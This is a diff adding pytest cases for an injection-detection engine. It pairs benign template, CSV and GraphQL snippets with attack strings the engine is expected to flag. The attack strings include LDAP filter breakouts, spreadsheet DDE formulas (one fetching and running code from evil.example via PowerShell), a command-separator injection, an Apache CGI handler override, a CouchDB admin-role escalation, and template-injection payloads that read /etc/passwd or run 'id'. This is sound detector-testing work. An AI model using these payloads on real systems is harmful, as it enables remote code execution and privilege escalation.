@@ -2114,3 +2114,72 @@ def test_a_table_cell_may_quote_an_escaped_pipe(
     engine: DetectionEngine, value: str, flagged: bool
 ) -> None:
     assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize(("value", "attack_class"), [
+    # From unseen attack set 19: a filter breakout padded with a sentence, spreadsheet DDE in
+    # a CSV row, a program run after cmd's separator, an Apache handler override, and CouchDB's
+    # admin role in a sign-up document.
+    ("I'm looking for *)(objectClass=*)(cn=* in the directory", "ldap"),
+    ("name,email,notes\nBob,bob@example.com,=cmd|'/C powershell IEX(wget evil.example/p)'!A0",
+     "file_upload"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "file_upload"),
+    ('=DDE("cmd";"/C calc";"!A0")', "file_upload"),
+    ('john.doe" & calc.exe & "', "cmdi"),
+    ("# site config\nOptions +ExecCGI\nAddHandler cgi-script .txt", "file_upload"),
+    ('{"type":"user","name":"eve","roles":["_admin"],"roles":[],"password":"x"}', "nosql"),
+])
+def test_unseen_set_19_misses(engine: DetectionEngine, value: str, attack_class: str) -> None:
+    result = engine.detect(value)
+    assert result["is_threat"] and result["attack_class"] == attack_class
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # Template source from bait 19: a helper given data, a bare sort, Go's with, a Liquid filter
+    # given a name, Symfony's app.user in a ternary, Blade's object property, EJS's loop, a Rails
+    # form builder, Django's plural, a Handlebars subexpression, vue-i18n's $d.
+    ("<% @posts.each do |post| %>\n  <p><%= truncate(post.body, length: 140) %></p>\n<% end %>",
+     False),
+    ("{% for tag in post.tags|sort %}{{ tag }}{% if not loop.last %}, {% endif %}{% endfor %}",
+     False),
+    ("{{ with .User }}{{ .Email | lower }}{{ else }}anonymous{{ end }}", False),
+    ("{% assign sale = product.compare_at_price | minus: product.price %}\n"
+     "{% if sale > 0 %}Save {{ sale | money }}!{% endif %}", False),
+    ("{% set greeting = app.user ? 'Hi ' ~ app.user.username : 'Hello guest' %}\n"
+     "{{ greeting }}", False),
+    ("<p>Thanks for subscribing, {{ $user->name }}!</p>\n<a href=\"{{ route('subscribe') }}\">"
+     "Subscribe</a>", False),
+    ("<ul>\n<% users.forEach(function(u){ %>\n  <li><%= u.name %></li>\n<% }); %>\n</ul>", False),
+    ('<%= form_with model: @comment, local: true do |f| %>\n  <%= f.text_area :body, rows: 3 %>'
+     '\n  <%= f.submit "Post comment" %>\n<% end %>', False),
+    ("{% blocktrans count counter=list|length %}There is {{ counter }} object.{% plural %}"
+     "There are {{ counter }} objects.{% endblocktrans %}", False),
+    ('{{#if (eq status "shipped")}}On its way!{{/if}}', False),
+    ("{{ $t('profile.lastSeen', { date: $d(lastSeen, 'short') }) }}", False),
+    ('{# emails/shipped.html #}\n{% extends "emails/base.html" %}\n\n{% block content %}\n'
+     '<p>Hi {{ customer.first_name }},</p>\n\n<p><a href="{{ order.tracking_url }}">Track it'
+     '</a></p>\n{% endblock %}', False),
+    # GitHub Actions expressions, a semicolon CSV whose header starts with id, GraphQL fields.
+    ("if: ${{ github.event_name == 'push' && startsWith(github.ref, 'refs/tags/') }}", False),
+    ("key: ${{ runner.os }}-pip-${{ hashFiles('**/requirements*.txt') }}", False),
+    ('id;name;price;currency\n1;"Café crème";3,50;EUR\n2;"Pain au chocolat";2,20;EUR', False),
+    ("query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n  }\n}", False),
+    ("Run setup.exe & wait for the wizard", False),
+    # The same shapes reaching code, building a huge value, or splitting a response.
+    ("{{ query('pipe', 'id') }} hello", True),
+    ("{{ range(99999999) }} {{ x }}", True),
+    ("{{ helper('cat /etc/passwd') }} {{ x }}", True),
+    ('{{#with "s" as |string|}}{{#with (lookup string.sub "constructor")}}{{/with}}{{/with}}',
+     True),
+    ("{% set x = app.request.server.all %}{{ x }}", True),
+    ('<% system("id") do |f| %>', True),
+    ("${{ github.__class__ }} x ${{ y }}", True),
+    ("${{ config.items() }} ${{ x }}", True),
+    ("{{ x }}\r\n\r\n<a href=//evil.example>Log in again</a>", True),
+    ("id;whoami;uname\n1;2;3", True),
+    ("x\nid\n", True),
+])
+def test_template_helpers_actions_rows_and_graphql(
+    engine: DetectionEngine, value: str, flagged: bool
+) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
